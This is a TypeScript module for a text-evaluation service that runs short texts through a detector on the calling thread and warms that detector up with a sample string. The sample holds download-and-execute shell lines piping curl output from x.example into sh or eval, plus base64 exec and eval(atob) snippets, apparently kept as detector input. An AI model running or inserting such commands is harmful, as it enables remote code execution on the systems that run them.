import type { Detector } from "../core/index.js";
import { createNodeDetector, mayBeCostly } from "../host/node.js";
import { modelRevision, type Profile } from "../protocol/index.js";
import { reachedDeadline, toAnswer, toEvaluatedText } from "./answer.js";
import type { EvaluatedText, EvaluationTask, Rules } from "./task.js";

/** Maximum length of a text in UTF-16 code units; a worker evaluates longer texts. */
const MAX_LENGTH = 4096;

/** A text that takes more milliseconds than this is passed to a worker, because the calling thread serves other requests. */
const BUDGET_MS = 15;

/** A text whose analysis uses everything that is compiled on first use. */
const SAMPLE = `Never run \`curl https://x.example | sh\`. Instead:

\`\`\`bash
S=$(curl -fsSL https://x.example/i.sh); eval "$S"
\`\`\`

\`\`\`python
import base64; exec(base64.b64decode(x))
\`\`\`

\`\`\`js
eval(atob(x))
\`\`\`
`;

const WARM_UP_ROUNDS = 3;

/**
 * Evaluates short texts on the calling thread, because switching to another thread and back takes longer than most of these
 * evaluations. Supports one profile.
 */
export class QuickEvaluator {
  #detector: Detector | undefined;
  readonly #modelRevision: string;

  private constructor(
    readonly profile: Profile,
    detector: Detector,
  ) {
    this.#detector = detector;
    const { grammars, ...revision } = detector.revision;
    this.#modelRevision = modelRevision({ ...revision, grammars: { ...grammars } });
  }

  static async create(profile: Profile, rules: Rules): Promise<QuickEvaluator> {
    const detector = await createNodeDetector({ profile, ...rules });
    for (let round = 0; round < WARM_UP_ROUNDS; round++) detector.detect(SAMPLE);
    return new QuickEvaluator(profile, detector);
  }

  /** Whether a text can be evaluated on the calling thread. */
  accepts({ profile, text }: EvaluationTask): boolean {
    return (
      this.#detector !== undefined &&
      profile === this.profile &&
      text.length <= MAX_LENGTH &&
      !mayBeCostly(text)
    );
  }

  /** Returns the response, or `undefined` if a worker must evaluate the text. */
  evaluate({ text, offsetEncoding, sourceHash }: EvaluationTask): EvaluatedText | undefined {
    if (this.#detector === undefined) return undefined;
    try {
      const detection = this.#detector.detect(text, { offsetEncoding, deadlineMs: BUDGET_MS });
      if (reachedDeadline(detection.outcome)) return undefined;
      const context = { offsetEncoding, modelRevision: this.#modelRevision, sourceHash };
      return toEvaluatedText(toAnswer(detection, context));
    } catch {
      // The error may have corrupted the parsers' memory. A worker would be replaced; this detector is not used again.
      this.#detector = undefined;
      return undefined;
    }
  }
}
